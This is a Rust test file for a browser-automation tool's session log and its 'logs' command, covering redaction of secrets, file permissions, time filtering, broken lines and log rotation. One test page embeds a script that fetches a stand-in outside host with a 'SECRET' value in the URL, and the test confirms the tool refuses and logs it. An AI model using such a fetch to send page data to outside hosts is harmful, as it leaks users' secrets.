//! The log of a real session, and `gpu-browser logs`.

use std::os::unix::fs::PermissionsExt;

use serde_json::{Value, json};

use crate::home::{Home, Running};

const CALL: &str =
    r#"{"t":"2026-01-01T10:00:00Z","event":"call","tool":"GET /info","status":200,"ms":1}"#;
const LATER: &str = r#"{"t":"2026-01-02T10:00:00Z","event":"relay","state":"back"}"#;

#[test]
fn a_session_leaves_what_was_done_and_refused_and_no_content() {
    let home = Home::new();
    home.session(&["--relay", "local", "--label", "laptop"], |ready, agent| {
        let page = agent.open(
            "<title>SECRET</title><script>
            fetch('https://refused.example/SECRET?SECRET').catch(() => { document.body.id = 'asked' })
            </script><body>SECRET",
        );
        let files = json!({"files": [{"path": "a.html", "text": "SECRET"}]});
        let origin = agent.post("/files", &files).ok()["origin"].as_str().unwrap().to_owned();
        let eval = json!({"page": page, "js": "'SECRET'"});
        assert_eq!(agent.post("/eval", &eval).ok()["value"], "SECRET");
        let url = format!("{origin}/a.html?q=SECRET#SECRET");
        agent.post("/page", &json!({"page": page, "url": url})).ok();
        agent.post("/close", &json!({"page": page})).ok();
        assert_eq!(agent.post("/nothing", &json!({})).status, 404);
        assert!(ready["link"].as_str().unwrap().contains("as_"));
    });
    let text = std::fs::read_to_string(home.log()).unwrap();
    assert!(
        !text.contains("SECRET") && !text.contains("/v1/t/"),
        "{text}"
    );
    let lines: Vec<Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let all = |event: &str| {
        lines
            .iter()
            .filter(|line| line["event"] == event)
            .collect::<Vec<_>>()
    };
    let is_there = |event: &str, key: &str, value: &str| {
        all(event)
            .iter()
            .any(|line| line[key].as_str().is_some_and(|text| text.contains(value)))
    };
    assert_eq!(lines[0]["event"], "started", "{text}");
    assert_eq!(lines.last().unwrap()["event"], "ended", "{text}");
    assert_eq!(lines.last().unwrap()["reason"], "stopped by the owner");
    for tool in ["POST /page", "POST /files", "POST /eval", "POST /close"] {
        assert!(is_there("call", "tool", tool), "{tool}: {text}");
    }
    assert!(
        all("call")
            .iter()
            .all(|call| call["ms"].is_u64() && call["status"].is_u64())
    );
    assert!(is_there("refused", "host", "refused.example"), "{text}");
    let refused = all("refused");
    let refused = refused
        .iter()
        .find(|line| line["host"] == "refused.example:443")
        .unwrap();
    assert_eq!(
        (&refused["reason"], &refused["page"]),
        (&"host_not_allowed".into(), &"p1".into())
    );
    assert!(
        is_there("page", "state", "closed") && is_there("page", "url", "/a.html"),
        "{text}"
    );
    let mode = std::fs::metadata(home.log()).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);

    let words = home.run(&["logs"]);
    assert_eq!(words.code, Some(0));
    assert_eq!(
        words.output.lines().count(),
        lines.len(),
        "{}",
        words.output
    );
    assert!(
        words
            .output
            .contains("refused      refused.example:443 (host_not_allowed) for p1")
    );
    assert_eq!(home.run(&["logs", "--json"]).output, text);
    assert_eq!(home.run(&["logs", "--since", "2040-01-01"]).output, "");
    assert_eq!(home.run(&["logs", "--json", "--since", "1h"]).output, text);
}

#[test]
fn no_log_yet_is_said_and_no_failure() {
    let done = Home::new().run(&["logs"]);
    assert_eq!((done.code, done.output.as_str()), (Some(0), ""));
    assert!(done.errors.contains("no log yet"), "{}", done.errors);
}

#[test]
fn a_time_that_is_none_names_the_forms() {
    let done = Home::new().run(&["logs", "--since", "yesterday"]);
    assert_eq!(done.code, Some(2));
    assert!(done.errors.contains("10m") && done.errors.contains("2026-12-01T10:00:00Z"));
}

#[test]
fn only_lines_since_a_time_are_shown_and_broken_ones_are_counted() {
    let home = Home::new();
    let broken = format!(
        "{CALL}\n{{\"t\":\nno line\n\u{7f}\n{}\n{LATER}\n{{\"t\":\"20",
        "x".repeat(1 << 20)
    );
    home.write_log(&broken);
    let done = home.run(&["logs", "--since", "2026-01-02T00:00:00+02:00", "--json"]);
    assert_eq!((done.code, done.output), (Some(0), format!("{LATER}\n")));
    assert!(done.errors.contains("skipped 5 lines"), "{}", done.errors);
    let words = home.run(&["logs"]);
    assert_eq!(words.output.lines().count(), 2);
    assert!(
        words
            .output
            .starts_with("2026-01-01 10:00:00.000Z  call         GET /info  200  1 ms\n")
    );
}

#[test]
fn what_is_written_later_is_followed_across_a_rotation() {
    let home = Home::new();
    home.write_log(&format!("{CALL}\n"));
    let mut command = home.command(&["logs", "-f", "--json"]);
    let mut logs = Running::new(&mut command);
    assert_eq!(logs.line(), CALL);
    home.write_log(&format!("{LATER}\n"));
    std::fs::rename(home.log(), home.log().with_file_name("log.1.jsonl")).unwrap();
    home.write_log(&format!("{CALL}\n{LATER}\n"));
    for expected in [LATER, CALL, LATER] {
        assert_eq!(logs.line(), expected);
    }
}

#[test]
fn a_reader_that_has_had_enough_is_no_failure() {
    let home = Home::new();
    home.write_log(&format!("{CALL}\n").repeat(20_000));
    let mut command = home.command(&["logs"]);
    let mut child = command
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    assert_eq!(child.wait().unwrap().code(), Some(0));
}
